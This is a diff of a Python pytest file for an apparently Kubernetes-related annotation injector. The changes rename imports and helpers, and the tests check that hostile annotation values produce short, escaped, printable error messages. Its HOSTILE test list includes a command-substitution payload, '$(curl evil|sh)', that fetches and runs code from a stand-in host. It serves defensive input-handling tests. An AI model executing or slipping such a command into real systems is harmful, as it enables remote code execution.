@@ -4,16 +4,17 @@ import json
 from typing import Any
 
 import pytest
-from asya_injector.annotations.parse import TABLE
-from asya_injector.annotations.settings import Policy
-from asya_injector.errors import Refusal, listed, quoted
-from asya_injector.mutation.inject import inherit, inject, overridden
+from asya_injector.annotations.settings import ClusterDefaults
+from asya_injector.annotations.table import TABLE
+from asya_injector.errors import InjectionError, join, quote
+from asya_injector.mutation.inject import inject
 from asya_injector.mutation.uninject import uninject
+from asya_injector.mutation.workload import find_overridden, propagate
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 Object = dict[str, Any]
-POLICY = Policy("0123456789", {})
+POLICY = ClusterDefaults("0123456789", {})
 
 HOSTILE = [
     pytest.param("$(curl evil|sh)", id="shell"),
@@ -51,7 +52,7 @@ def line_of(given: Object) -> str:
     for function in (lambda: inject(given, POLICY), lambda: uninject(given)):
         try:
             result = function()
-        except Refusal as refusal:
+        except InjectionError as refusal:
             said.append(str(refusal))
         else:
             said += getattr(result, "warnings", ())
@@ -109,11 +110,11 @@ def test_as_an_annotation_of_a_workload_it_is_said_harmlessly(text: str) -> None
         "metadata": {"annotations": {"asya.sh/mode": "x" + text, f"asya.sh/{text}": text}},
         "spec": {"template": template},
     }
-    for line in overridden(workload):
+    for line in find_overridden(workload):
         assert line.isascii()
         assert line.isprintable()
         assert len(line) < 1500
-    assert line_of(inherit(workload)["spec"]["template"])
+    assert line_of(propagate(workload)["spec"]["template"])
 
 
 def test_a_refusal_stays_short_however_many_containers_there_are() -> None:
@@ -127,11 +128,11 @@ def test_a_refusal_stays_short_however_many_containers_there_are() -> None:
 
 
 def test_quotes_cut_and_escape() -> None:
-    assert quoted('a"\x1b\x7f\u202e') == '"a\\"\\u001b\\u007f\\u202e"'
-    assert len(quoted("\x1b" * 10_000)) < 650
-    assert quoted(1) == '"int"'
-    assert listed(["a", "b"]) == '"a", "b"'
-    assert listed([]) == ""
+    assert quote('a"\x1b\x7f\u202e') == '"a\\"\\u001b\\u007f\\u202e"'
+    assert len(quote("\x1b" * 10_000)) < 650
+    assert quote(1) == '"int"'
+    assert join(["a", "b"]) == '"a", "b"'
+    assert join([]) == ""
 
 
 @settings(max_examples=60, deadline=None)
